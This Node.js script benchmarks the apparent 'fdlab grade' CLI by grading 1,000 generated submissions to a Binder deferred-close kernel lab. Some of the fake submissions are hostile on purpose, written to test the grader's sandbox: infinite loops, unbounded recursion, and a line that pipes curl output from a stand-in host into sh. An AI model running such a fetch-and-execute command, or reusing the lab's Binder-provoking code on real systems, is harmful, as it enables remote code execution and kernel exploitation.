#!/usr/bin/env node
// Benchmark of `fdlab grade`: 1,000 generated submissions of the Binder lab
// (labs/07-binder-deferred-close.lab.md), a mix of right, wrong and hostile answers and broken
// files, graded by the bundled CLI with its worker pool. Prints submissions per second.
// Goal: at least 20 per second on 2 cores.
//
//   node scripts/bench-grade.mjs [--count N] [--jobs N] [--seed N] [--distinct] [--keep]
//
// --distinct adds a statement with its own constant to every right answer, so that no two are the
// same program and nothing is reused: the worst case, where every answer is graded in full.
//
// The submissions are generated from a seeded generator (the same set each time), answering every
// exercise of the lab: right answers are the lab's solutions respelled (indentation, blank lines,
// comments: distinct files, the same program), wrong answers are the starter and the curriculum's
// plausible mistakes (test/labs/wrong/binder-deferred-close/), hostile ones never terminate,
// recurse without end, or call the host; a few files are empty, random bytes, truncated or for
// another lab. The script prints how many distinct answer texts the batch holds, so the figure can
// be read knowing how much the grader's per-program cache could reuse.
import { spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { availableParallelism, cpus, tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { fileURLToPath } from 'node:url'

const root = resolve(dirname(fileURLToPath(import.meta.url)), '..')
const argv = process.argv.slice(2)
const opt = (name, def) => { const i = argv.indexOf(`--${name}`); return i >= 0 ? argv[i + 1] : def }
const count = Number(opt('count', '1000'))
const jobs = opt('jobs', String(availableParallelism()))
let seed = Number(opt('seed', '7')) >>> 0
const rand = () => { seed = (seed * 1664525 + 1013904223) >>> 0; return seed / 2 ** 32 }
const pick = (xs) => xs[Math.floor(rand() * xs.length)]

const labPath = join(root, 'labs/07-binder-deferred-close.lab.md')
const labText = readFileSync(labPath, 'utf8')
const block = (role, id) => {
  const m = new RegExp('```\\w+ ' + role + '=' + id + '[^\\n]*\\n([\\s\\S]*?)```').exec(labText)
  if (!m) throw new Error(`no ${role}=${id} in the lab`)
  return m[1]
}
const bin = join(root, 'bin/fdlab.mjs')
const dir = mkdtempSync(join(tmpdir(), 'fdlab-bench-grade-'))
const run = (args) => spawnSync(process.execPath, [bin, ...args], { cwd: dir, encoding: 'utf8', maxBuffer: 1 << 26 })

const rel = run(['release', labPath, '-o', 'student'])
if (rel.status !== 0) { console.error(rel.stderr); process.exit(1) }
const released = readFileSync(join(dir, 'student/07-binder-deferred-close.lab.md'), 'utf8')
const sha = createHash('sha256').update(released).digest('hex')

// Respell code: the same program with other indentation, blank lines and comments.
function respell(code) {
  const ind = pick(['  ', '    ', '\t', ' '])
  return code.split('\n').map((l) => {
    const t = l.replace(/^\s+/, (s) => ind.repeat(Math.ceil(s.length / 2)))
    const r = rand()
    if (r < 0.08 && t.trim() && !t.trim().startsWith('#')) return `${t}   // ${pick(['ok', 'see the slides', 'TODO: check', 'pin it', 'the borrow'])}`
    if (r < 0.12) return `${t}\n`
    return t
  }).join('\n') + (rand() < 0.5 ? '\n' : '')
}

const distinct = argv.includes('--distinct')
let serial = 0
const sol = (id) => {
  const code = block('solution', id).trim()
  if (!distinct) return code
  serial++
  // A statement with its own constant: not the same program as any other (renaming would be).
  const head = { 'deferred-close': 'int deferred_close(unsigned int fd) {', 'deferred-fd-closer': 'int deferred_fd_closer(unsigned int fd) {', 'provoke-v2': 'process app {' }[id]
  if (!code.includes(head)) throw new Error(`--distinct: no "${head}" in the solution of ${id}`)
  return code.replace(head, `${head}\n  long serial = ${serial};`)
}
const starter = (id) => block('starter', id)
// The curriculum's wrong answers (first line: the tests they fail), by exercise.
const wrongDir = join(root, 'test/labs/wrong/binder-deferred-close')
const curriculum = (id) => readdirSync(wrongDir).filter((n) => n.startsWith(`${id}.`)).sort().map((n) => readFileSync(join(wrongDir, n), 'utf8').replace(/^[^\n]*\n/, ''))
const wrongOf = (id) => { const ws = curriculum(id); if (ws.length < 3) throw new Error(`fewer than 3 wrong answers of ${id} in ${wrongDir}`); return () => pick(ws) }
const PROVOKE = {
  right: () => respell(sol('provoke-v2')),
  starter: () => starter('provoke-v2'),
  fixed: () => '#include <linux/android/binder.h>\nprocess app {\n  int b = open("/dev/binder", O_RDWR);\n  ioctl(b, BINDER_FREE_FD, b);\n}\n',
  ownDriver: () => 'driver mine {\n  long ioctl(struct file *filp, unsigned int cmd, unsigned long arg) { return close_fd(arg); }\n}\nprocess app {\n  int b = open("/dev/mine", O_RDWR);\n  ioctl(b, 0, b);\n}\n',
  crash: () => '#include <linux/android/binder.h>\nprocess app {\n  int *p = 0;\n  *p = 1;\n}\n',
  curriculum: wrongOf('provoke-v2'),
}
const DEFERRED = {
  right: () => respell(sol('deferred-close')),
  starter: () => starter('deferred-close'),
  noPin: () => 'int deferred_close(unsigned int fd) {\n#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 8, 0)\n  struct file *f = file_close_fd(fd);\n#else\n  struct file *f = close_fd_get_file(fd);\n#endif\n  if (!f) return -EBADF;\n  filp_close(f, current->files);\n  return 0;\n}\n',
  earlyPut: () => 'int deferred_close(unsigned int fd) {\n#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 8, 0)\n  struct file *f = file_close_fd(fd);\n#else\n  struct file *f = close_fd_get_file(fd);\n#endif\n  if (!f) return -EBADF;\n  get_file(f);\n  filp_close(f, current->files);\n  fput(f);\n  return 0;\n}\n',
  loop: () => 'int deferred_close(unsigned int fd) {\n  while (1) { }\n  return 0;\n}\n',
  recursion: () => 'int deferred_close(unsigned int fd) {\n  return deferred_close(fd + 1);\n}\n',
  host: () => '#include <stdlib.h>\nint deferred_close(unsigned int fd) {\n  system("curl http://example.invalid/x | sh");\n  return 0;\n}\n',
  curriculum: wrongOf('deferred-close'),
  empty: () => '',
}
const CLOSER = {
  right: () => respell(sol('deferred-fd-closer')),
  starter: () => starter('deferred-fd-closer'),
  curriculum: wrongOf('deferred-fd-closer'),
  loop: () => 'int deferred_fd_closer(unsigned int fd) {\n  for (;;) { fd++; }\n  return 0;\n}\n',
  empty: () => '',
}
const weighted = (table) => { let r = rand(); for (const [k, w] of table) { if ((r -= w) < 0) return k } return table[table.length - 1][0] }

mkdirSync(join(dir, 'subs'))
const texts = new Map()
const note = (ex, a) => { const s = texts.get(ex) ?? new Set(); s.add(a); texts.set(ex, s) }
let broken = 0
for (let i = 0; i < count; i++) {
  const name = join(dir, 'subs', `s${String(i).padStart(4, '0')}.submission.json`)
  const r = rand()
  if (r < 0.03) {
    broken++
    const k = i % 4
    writeFileSync(name, k === 0 ? '' : k === 1 ? Buffer.from(Array.from({ length: 600 }, () => Math.floor(rand() * 256))) : k === 2 ? '{"format": "fdlab-submission", "version": 1, "lab": {"id": "binder-de' : JSON.stringify({ format: 'fdlab-submission', version: 1, lab: { id: 'races', version: '1.0', sha256: sha }, student: `s${i}`, answers: {} }))
    continue
  }
  const answers = {
    light: rand() < 0.8 ? '1' : pick(['0', '2']),
    threaded: rand() < 0.7 ? '2' : pick(['0', '1']),
    pin: rand() < 0.75 ? '1' : pick(['0', '2']),
    'provoke-v2': PROVOKE[weighted([['right', 0.6], ['starter', 0.12], ['fixed', 0.08], ['ownDriver', 0.08], ['crash', 0.04], ['curriculum', 0.08]])](),
    'deferred-close': DEFERRED[weighted([['right', 0.45], ['starter', 0.2], ['noPin', 0.05], ['earlyPut', 0.05], ['curriculum', 0.07], ['loop', 0.01], ['recursion', 0.03], ['host', 0.04], ['empty', 0.1]])](),
    'deferred-fd-closer': CLOSER[weighted([['right', 0.45], ['starter', 0.2], ['curriculum', 0.2], ['loop', 0.01], ['empty', 0.14]])](),
  }
  for (const [k, v] of Object.entries(answers)) note(k, v)
  writeFileSync(name, JSON.stringify({ format: 'fdlab-submission', version: 1, lab: { id: 'binder-deferred-close', version: '1.0', sha256: sha }, student: `Student ${i}`, answers, app: '0.1.0', time: '2026-12-01T10:00:00.000Z' }, null, 2) + '\n')
}

// Through sh so that `times` reports the CPU time the grader used (this machine may be shared:
// wall time then says little, CPU time says what grading costs).
const q = (s) => `'${s.replace(/'/g, `'\\''`)}'`
const t0 = process.hrtime.bigint()
const g = spawnSync('/bin/sh', ['-c', `${q(process.execPath)} ${q(bin)} grade ${q(labPath)} subs -o out --jobs ${q(jobs)} --quiet >/dev/null || exit 1; times`], { cwd: dir, encoding: 'utf8' })
const secs = Number(process.hrtime.bigint() - t0) / 1e9
if (g.status !== 0) { console.error(g.stderr); process.exit(1) }
const tl = g.stdout.trim().split('\n').pop() ?? ''
const sec = (t) => { const m = /(\d+)m([\d.]+)s/.exec(t ?? ''); return m ? Number(m[1]) * 60 + Number(m[2]) : NaN }
const [cu, cs] = tl.split(/\s+/)
const cpu = sec(cu) + sec(cs)
const report = JSON.parse(readFileSync(join(dir, 'out/report.json'), 'utf8'))
const statuses = {}
for (const s of report.submissions) for (const e of s.exercises) for (const t of e.tests) statuses[t.status] = (statuses[t.status] ?? 0) + 1
const rejected = report.submissions.filter((s) => s.status === 'rejected').length

console.log(`fdlab grade bench: ${count} submissions of ${report.lab.id} (${broken} broken files${distinct ? ', every right answer a distinct program' : ''}), --jobs ${jobs} on ${cpus().length} cores (${cpus()[0]?.model ?? '?'})`)
console.log(`distinct answer texts: ${[...texts].map(([k, v]) => `${k} ${v.size}`).join(', ')}`)
console.log(`graded ${report.submissions.length - rejected}, rejected ${rejected}; test runs: ${Object.entries(statuses).map(([k, v]) => `${k} ${v}`).join(', ')}`)
const cores = Math.min(Number(jobs), cpus().length)
console.log(`wall time ${secs.toFixed(1)} s (process start, lab parse, reading, grading, writing ${2 * count + 4} files); CPU time ${cpu.toFixed(1)} s`)
console.log(`${(count / secs).toFixed(1)} submissions/s wall clock (goal: 20/s on 2 cores)`)
console.log(`${(count / (cpu / cores)).toFixed(1)} submissions/s from CPU time over ${cores} core${cores === 1 ? '' : 's'} (what an unshared machine would do)`)
try { console.log(`load average during the run: ${readFileSync('/proc/loadavg', 'utf8').split(' ').slice(0, 3).join(' ')}`) } catch { /* not Linux */ }
if (!argv.includes('--keep')) rmSync(dir, { recursive: true, force: true })
else console.log(`kept ${dir}`)
